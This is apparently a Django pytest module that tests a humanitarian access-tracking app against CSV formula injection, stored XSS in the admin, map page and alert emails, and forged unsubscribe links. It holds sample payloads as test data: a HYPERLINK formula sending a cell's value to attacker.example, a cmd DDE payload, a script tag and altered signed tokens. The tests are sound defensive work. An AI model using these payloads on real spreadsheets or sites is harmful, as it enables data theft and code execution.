"""User text is data everywhere: CSV cells never run as formulas, HTML never runs it as markup.

And the only thing a field officer holds, the unsubscribe link of an alert email, opens their own
subscription and nothing else: a forged or altered link changes nothing.
"""

import csv
import io
import re
from email import message_from_bytes
from pathlib import Path

import pytest
from django.conf import settings
from django.core import signing
from django.test import Client
from django.urls import reverse

from access.alerts.emails import alert_message, unsubscribe_token
from access.choices import AccessStatus, Confidence, ConstraintCategory, CorridorStatus, Severity
from access.models import AlertDelivery, AlertEvent, Subscription
from access.services import change_access_status, create_corridor, record_restriction
from humtrack.actor import Actor
from humtrack.api.renderers import FORMULA_STARTS
from humtrack.models import TokenScope
from tests.factories import make_region
from tests.security.principals import make_token, token_header
from tests.security.snapshots import database_state
from tests.security.world import MODEL_BACKEND, SEP_1, SUPERUSER, build_world

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert('humtrack')</script>"
FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Details")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]


@pytest.fixture
def world(db):
    return build_world()


@pytest.fixture
def hostile_facts(world):
    """Facts whose free text is a formula or markup, as a careless or hostile partner might send."""
    partner = Actor(organisation=world.organisation_a)
    common = {"source": world.records["a_source"], "confidence": Confidence.REPORTED, "starts_at": SEP_1}
    for formula in FORMULAS:
        record_restriction(
            actor=partner,
            affected_groups=["all_aid_workers"],
            region=world.tree["AF0801"],
            category=ConstraintCategory.INTERFERENCE,
            severity=Severity.LOW,
            description=formula,
            imposed_by=formula,
            **common,
        )
    restriction = record_restriction(
        actor=partner,
        affected_groups=["all_aid_workers"],
        region=world.tree["AF0801"],
        category=ConstraintCategory.INTERFERENCE,
        severity=Severity.LOW,
        description=SCRIPT,
        imposed_by=SCRIPT,
        **common,
    )
    create_corridor(
        actor=partner,
        name=FORMULAS[1],
        regions=[world.tree["AF08"], world.tree["AF0801"]],
        status=CorridorStatus.RESTRICTED,
        source=world.records["a_source"],
        confidence=Confidence.REPORTED,
    )
    # Region names come from admin tables (import_regions), which anyone may have edited.
    make_region("AF0807", FORMULAS[2], parent=world.tree["AF08"])
    return restriction


@pytest.mark.parametrize("resource", ["api:restriction-list", "api:corridor-list", "api:region-list"])
def test_no_csv_cell_starts_as_a_formula(world, hostile_facts, resource):
    _, key = make_token(world.organisation_a, TokenScope.READ)
    response = Client(**token_header(key)).get(reverse(resource), {"format": "csv", "page_size": 1000})
    assert response.status_code == 200
    text = b"".join(response.streaming_content) if response.streaming else response.content
    cells = [cell for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))) for cell in row]
    assert any(formula in "".join(cells) for formula in FORMULAS), "the hostile text is not in the export"
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not cell.lstrip("-").isdigit()]
    assert not dangerous


def test_the_admin_shows_markup_in_user_text_as_text(world, hostile_facts):
    client = Client()
    client.force_login(world.users[SUPERUSER], backend=MODEL_BACKEND)
    for url in (
        reverse("admin:access_accessrestriction_change", args=[hostile_facts.pk]),
        reverse("admin:access_accessrestriction_changelist"),
        reverse("admin:access_region_change", args=[world.tree["AF0801"].pk]),
    ):
        page = client.get(url).content.decode()
        assert SCRIPT not in page, url
    change_page = reverse("admin:access_accessrestriction_change", args=[hostile_facts.pk])
    assert "&lt;script&gt;" in client.get(change_page).content.decode()


def test_the_situation_page_shows_markup_in_user_text_as_text(world, hostile_facts):
    client = Client()
    client.force_login(world.users["field_staff"], backend=MODEL_BACKEND)
    page = client.get(reverse("situation:page"))
    assert page.status_code == 200
    assert SCRIPT not in page.content.decode()
    # The details panel is JSON, which the page's script turns into text nodes (below), never markup.
    details = client.get(reverse("situation:region-details", args=["AF0801"]))
    assert details.status_code == 200 and details["Content-Type"].startswith("application/json")
    assert details["X-Content-Type-Options"] == "nosniff"


def test_the_situation_script_never_builds_markup_from_data():
    script = (Path(settings.BASE_DIR) / "situation" / "static" / "situation" / "situation.js").read_text()
    assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write", script)
    # Leaflet reads a string given to a tooltip or popup as HTML; a DOM node it shows as it is.
    for call in re.finditer(r"\.(bindTooltip|bindPopup|setContent)\(\s*([^,)]*)", script):
        assert call[2].startswith("el("), f"{call[0]}: pass a node built with el(), not a string"


def test_an_alert_email_shows_markup_in_a_reason_as_text(world):
    change = change_access_status(
        region=world.tree["AF0806"],
        status=AccessStatus.INACCESSIBLE,
        reason=f"Checkpoint {SCRIPT}",
        source=world.records["a_source"],
        confidence=Confidence.REPORTED,
        actor=Actor(organisation=world.organisation_a),
    )
    event = AlertEvent.objects.get(status_change=change)
    delivery = AlertDelivery.objects.create(event=event, subscription=world.records["a_subscription_x"])
    email = message_from_bytes(alert_message(delivery).message().as_bytes())
    html = "".join(
        part.get_payload(decode=True).decode(part.get_content_charset() or "utf-8")
        for part in email.walk()
        if part.get_content_type() == "text/html"
    )
    assert "Checkpoint" in html, "the reason is not in the email"
    assert SCRIPT not in html
    assert "&lt;script&gt;" in html


@pytest.fixture
def own_subscription(world) -> Subscription:
    return world.records["a_subscription_x"]


def test_an_unsubscribe_link_shows_only_its_own_subscription(world, own_subscription):
    url = reverse("alerts:unsubscribe", args=[unsubscribe_token(own_subscription)])
    page = Client().get(url).content.decode()
    assert own_subscription.email in page
    others = [s.email for s in Subscription.objects.exclude(pk=own_subscription.pk)]
    assert not [email for email in others if email in page]


def test_an_unsubscribe_link_stops_its_own_subscription_and_nothing_else(world, own_subscription):
    others_before = list(Subscription.objects.exclude(pk=own_subscription.pk).values_list("pk", "active"))
    response = Client().post(reverse("alerts:unsubscribe", args=[unsubscribe_token(own_subscription)]))
    assert response.status_code == 200
    own_subscription.refresh_from_db()
    assert not own_subscription.active
    assert list(Subscription.objects.exclude(pk=own_subscription.pk).values_list("pk", "active")) == others_before


def forged_links(subscription: Subscription, other: Subscription) -> list[str]:
    genuine = unsubscribe_token(subscription)
    value, signature = genuine.rsplit(":", 1)
    return [
        f"{other.pk}:{signature}",  # another subscription's id under this link's signature
        f"{value}:{signature[:-2]}xx",  # an altered signature
        signing.Signer().sign(str(other.pk)),  # signed by the site, but not for unsubscribing
        str(other.pk),  # no signature at all
    ]


def test_a_forged_or_altered_unsubscribe_link_changes_nothing(world, own_subscription):
    other = world.records["b_subscription_y"]
    before = database_state()
    for token in forged_links(own_subscription, other):
        url = reverse("alerts:unsubscribe", args=[token])
        for response in (Client().get(url), Client().post(url)):
            assert response.status_code == 404, token
            assert other.email not in response.content.decode()
    assert database_state() == before
